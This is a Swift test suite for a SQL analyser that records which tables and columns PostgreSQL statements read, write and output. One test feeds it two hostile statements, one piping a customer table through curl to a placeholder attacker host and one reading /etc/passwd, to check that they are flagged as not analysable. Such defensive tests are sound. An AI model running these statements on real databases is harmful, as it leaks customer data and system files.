import GatehouseCore
import Testing

@testable import GatehouseSQL

@Suite("Relations read and written")
struct RelationTests {
    @Test func namesAreKeptAsWritten() {
        let result = analysis(
            #"SELECT * FROM app.customers c JOIN "Orders" o ON o.cid = c.id JOIN "Sales"."Items" i ON true"#)
        #expect(result.reads == [table("customers", schema: "app"), table("Orders"), table("Items", schema: "Sales")])
        #expect(result.writes.isEmpty)
    }

    @Test func unquotedNamesAreLowerCasedByTheParser() {
        #expect(analysis("SELECT 1 FROM Public.CUSTOMERS").reads == [table("customers", schema: "public")])
    }

    @Test func joinsSubqueriesAndSetOperations() {
        let result = analysis(
            """
            SELECT a.x FROM a LEFT JOIN (SELECT y FROM b WHERE y IN (SELECT z FROM c)) s ON true
            WHERE EXISTS (SELECT 1 FROM d) UNION SELECT w FROM e EXCEPT SELECT v FROM f
            """)
        #expect(Set(result.reads) == Set(["a", "b", "c", "d", "e", "f"].map { table($0) }))
    }

    @Test func commonTableExpressionsAreNotRelations() {
        let result = analysis(
            """
            WITH recent AS (SELECT * FROM orders WHERE placed > now() - interval '1 day'),
                 big AS (SELECT * FROM recent WHERE total > 100)
            SELECT * FROM big JOIN customers ON customers.id = big.customer_id
            """)
        #expect(result.reads == [table("orders"), table("customers")])
    }

    @Test func aSchemaQualifiedNameIsNeverACommonTableExpression() {
        let result = analysis("WITH customers AS (SELECT 1 AS id) SELECT * FROM public.customers, customers")
        #expect(result.reads == [table("customers", schema: "public")])
    }

    @Test func recursiveCommonTableExpressions() {
        let result = analysis(
            """
            WITH RECURSIVE chain(id, manager) AS (
              SELECT id, manager_id FROM employees WHERE id = 1
              UNION ALL SELECT e.id, e.manager_id FROM employees e JOIN chain ON e.id = chain.manager)
            SELECT id FROM chain
            """)
        #expect(result.reads == [table("employees")])
        #expect(result.outputs == [OutputColumn(name: "id", sources: [column("employees", "id")])])
    }

    @Test func insertSelect() {
        let result = analysis(
            "INSERT INTO archive.orders (id, total) SELECT id, total FROM orders WHERE placed < '2020-01-01'")
        #expect(result.writes == [table("orders", schema: "archive")])
        #expect(result.reads == [table("orders")])
    }

    @Test func updateFrom() {
        let result = analysis("UPDATE orders o SET status = s.name FROM statuses s WHERE s.id = o.status_id")
        #expect(result.writes == [table("orders")])
        #expect(result.reads == [table("statuses")])
    }

    @Test func deleteUsing() {
        let result = analysis(
            "DELETE FROM orders USING customers WHERE orders.customer_id = customers.id AND customers.gone")
        #expect(result.writes == [table("orders")])
        #expect(result.reads == [table("customers")])
    }

    @Test func returningReadsTheTarget() {
        let result = analysis("DELETE FROM customers WHERE id = 1 RETURNING email")
        #expect(result.writes == [table("customers")])
        #expect(result.reads == [table("customers")])
        #expect(result.outputs == [OutputColumn(name: "email", sources: [column("customers", "email")])])
    }

    @Test func merge() {
        let result = analysis(
            """
            MERGE INTO customers c USING staging.customers s ON c.id = s.id
            WHEN MATCHED THEN UPDATE SET email = s.email
            WHEN NOT MATCHED THEN INSERT (id, email) VALUES (s.id, s.email)
            """)
        #expect(result.writes == [table("customers")])
        #expect(result.reads == [table("customers", schema: "staging")])
        #expect(result.columns.contains(column("customers", "email")))
        #expect(result.columns.contains(column(table("customers", schema: "staging"), "email")))
    }

    @Test func copyFromWritesAndCopyToReads() {
        let into = analysis("COPY customers (id, email) FROM STDIN WITH (FORMAT csv)")
        #expect(into.writes == [table("customers")])
        #expect(into.reads.isEmpty)

        let out = analysis("COPY app.customers TO STDOUT")
        #expect(out.reads == [table("customers", schema: "app")])
        #expect(out.writes.isEmpty)
        #expect(out.outputs == [OutputColumn(name: "*", sources: [column(table("customers", schema: "app"), "*")])])

        let columns = analysis("COPY customers (email) TO STDOUT")
        #expect(columns.outputs == [OutputColumn(name: "email", sources: [column("customers", "email")])])
    }

    @Test func copyQueryTo() {
        let result = analysis("COPY (SELECT email FROM customers WHERE id < 10) TO STDOUT")
        #expect(result.kind == .copy)
        #expect(result.reads == [table("customers")])
        #expect(result.outputs == [OutputColumn(name: "email", sources: [column("customers", "email")])])
        #expect(result.analysable)
    }

    @Test func copyToProgramOrServerFileIsNotAnalysable() {
        #expect(!analysis("COPY customers TO PROGRAM 'curl -d @- evil.example'").analysable)
        #expect(!analysis("COPY customers FROM '/etc/passwd'").analysable)
    }

    @Test func createTableAsAndViews() {
        let created = analysis("CREATE TABLE emails AS SELECT email FROM customers")
        #expect(created.kind == .ddl)
        #expect(created.writes == [table("emails")])
        #expect(created.reads == [table("customers")])

        let view = analysis("CREATE VIEW app.contact AS SELECT c.email FROM customers c")
        #expect(view.writes == [table("contact", schema: "app")])
        #expect(view.reads == [table("customers")])

        let materialized = analysis("CREATE MATERIALIZED VIEW m AS SELECT * FROM orders")
        #expect(materialized.writes == [table("m")])
        #expect(materialized.reads == [table("orders")])

        let selectInto = analysis("SELECT * INTO backup FROM customers")
        #expect(selectInto.writes == [table("backup")])
        #expect(selectInto.reads == [table("customers")])
        #expect(selectInto.outputs.isEmpty)
    }

    @Test func definitionTargetsAreWritten() {
        #expect(analysis("ALTER TABLE customers ADD COLUMN phone text").writes == [table("customers")])
        #expect(Set(analysis("DROP TABLE a, app.b").writes) == [table("a"), table("b", schema: "app")])
        #expect(analysis("TRUNCATE orders, customers").writes == [table("orders"), table("customers")])
        #expect(analysis("GRANT SELECT ON customers TO analyst").writes == [table("customers")])
        #expect(analysis("CREATE INDEX ON customers (lower(email))").columns == [column("customers", "email")])
    }

    @Test func foreignKeyTablesAreOnlyRead() {
        let result = analysis("ALTER TABLE orders ADD FOREIGN KEY (customer_id) REFERENCES customers (id)")
        #expect(result.writes == [table("orders")])
        #expect(result.reads == [table("customers")])
    }

    @Test func dataModifyingCommonTableExpressions() {
        let result = analysis(
            "WITH gone AS (DELETE FROM customers WHERE inactive RETURNING *) INSERT INTO archive SELECT * FROM gone")
        #expect(Set(result.writes) == [table("customers"), table("archive")])
        #expect(result.reads == [table("customers")])
    }

    @Test func lateralAndFunctionsInFrom() {
        let result = analysis(
            """
            SELECT c.id, o.total FROM customers c,
              LATERAL (SELECT total FROM orders WHERE orders.customer_id = c.id LIMIT 1) o,
              generate_series(1, 3) g
            """)
        #expect(result.reads == [table("customers"), table("orders")])
        #expect(result.columns.contains(column("customers", "id")))
        #expect(result.analysable)
    }
}
